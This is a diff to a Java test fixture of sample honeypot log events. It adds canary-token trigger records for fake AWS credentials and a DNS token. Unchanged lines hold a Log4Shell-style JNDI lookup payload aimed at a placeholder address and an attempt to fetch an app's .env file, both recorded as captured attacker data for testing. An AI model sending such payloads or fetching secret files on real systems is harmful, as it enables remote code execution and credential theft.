@@ -172,6 +172,18 @@ final class SampleLogs {
                 + " nav.webdriver=\"true\" nav.platform=\"Linux x86_64\" nav.languages=\"ru-RU\""
                 + " tz.offset=\"540\" src.offset=\"60\" src.country=\"FR\" cv=\"cafe01\" au=\"beef02\""
                 + " gl=\"ANGLE (SwiftShader)\" rtc=\"10.0.0.5\""),
+        decky(
+            23,
+            "canary",
+            "trigger",
+            "",
+            "token_id=\"t-2\" kind=\"aws_passive\" generator=\"aws_creds\" first=\"true\" path=\"/\""),
+        decky(
+            24,
+            "canary",
+            "trigger",
+            "",
+            "token_id=\"t-3\" kind=\"dns\" generator=\"env_file\" first=\"true\" qname=\"x.example\""),
         decky(21, "ftp", "download_attempt", "q1", "path=\"/app/.env\""),
         decky(22, "tcp", "payload", "q2", "data=\"x${jndi:ldap://203.0.113.20/a}\""));
   }
